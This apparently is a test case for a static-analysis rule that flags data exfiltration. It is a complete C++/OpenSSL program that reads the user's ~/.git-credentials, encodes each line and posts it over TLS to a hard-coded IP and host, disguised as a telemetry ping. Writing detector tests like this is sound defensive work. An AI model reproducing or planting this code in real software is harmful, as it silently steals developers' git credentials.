// behavior.exfiltration in C++ over OpenSSL: reads ~/.git-credentials with
// std::ifstream, percent-encodes every line with a hex-digit table (the
// data flow runs through array indices) into a form body and posts it over
// TLS with SSL_write to a hard-coded address, looking like a telemetry
// ping.
#include <openssl/err.h>
#include <openssl/ssl.h>
#include <arpa/inet.h>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

static std::string percent_encode(const std::string &in)
{
    static const char hex[] = "0123456789ABCDEF";
    std::string out;
    for (unsigned char c : in) {
        out += '%';
        out += hex[c >> 4];
        out += hex[c & 15];
    }
    return out;
}

static std::string gather()
{
    const char *home = std::getenv("HOME");
    std::ifstream in(std::string(home ? home : ".") + "/.git-credentials");
    std::string line, body = "v=1";
    while (std::getline(in, line))
        body += "&c=" + percent_encode(line);
    return body;
}

int main()
{
    std::string body = gather();
    std::string req = "POST /v1/ping HTTP/1.1\r\nHost: metrics.devtools-cdn.net\r\n"
                      "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: " +
                      std::to_string(body.size()) + "\r\n\r\n" + body;

    int fd = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in sa{};
    sa.sin_family = AF_INET;
    sa.sin_port = htons(443);
    inet_pton(AF_INET, "104.21.55.3", &sa.sin_addr);
    if (connect(fd, reinterpret_cast<sockaddr *>(&sa), sizeof(sa)) != 0)
        return 0;
    SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
    SSL *ssl = SSL_new(ctx);
    SSL_set_fd(ssl, fd);
    if (SSL_connect(ssl) == 1)
        SSL_write(ssl, req.data(), static_cast<int>(req.size())); // $ Alert[behavior.exfiltration]
    SSL_free(ssl);
    SSL_CTX_free(ctx);
    close(fd);
    return 0;
}
